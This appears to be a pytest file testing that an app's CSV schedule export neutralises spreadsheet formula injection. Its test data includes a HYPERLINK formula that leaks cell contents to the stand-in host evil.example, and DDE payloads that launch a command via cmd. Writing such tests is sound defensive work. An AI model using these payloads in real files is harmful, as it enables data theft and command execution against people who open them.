"""Exports are safe to open: CSV cells a spreadsheet would run as formulas are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import Engine
from tests.conftest import TEST_SIGNING_KEY

from eros.cli.app import _register
from eros.clock import FixedClock
from eros.infra.exports import neutralise_formula
from eros.tools.schedules import get_schedules, save_schedule
from support import cli_ok, tool_env, use_database

WEEK = "2026-01-05"
HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your reward")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Hey babe 💕 new set tonight", "", "a=b", 12.5, -3, None])
def test_other_cells_and_numbers_are_left_alone(value: object) -> None:
    assert neutralise_formula(value) == value


def test_eros_export_csv_neutralises_hostile_captions(
    mini_db: Engine, clock: FixedClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    use_database(monkeypatch, mini_db)
    monkeypatch.setenv("EROS_NOW", "2026-01-04T12:00:00Z")
    monkeypatch.delenv("EROS_SIGNING_KEY", raising=False)
    _register()
    cli_ok("generate", "test")
    env = tool_env(mini_db, clock, TEST_SIGNING_KEY.encode())
    [week] = get_schedules(env, creator_id="test", week_start=WEEK, include_items=True).schedules
    items = sorted(week.items or [], key=lambda i: (i["scheduled_date"], i["scheduled_time"]))
    for item, text in zip(items, HOSTILE, strict=False):
        item["caption_text"] = text
    save_schedule(env, "test", WEEK, items, saved_by="mallory")

    exported = cli_ok("export", "test", "--week", WEEK, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    assert len(rows) == len(items)  # a CR inside a caption is quoted: no row breaks in two
    captions = [row["caption_text"] for row in rows]
    assert captions[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in captions)
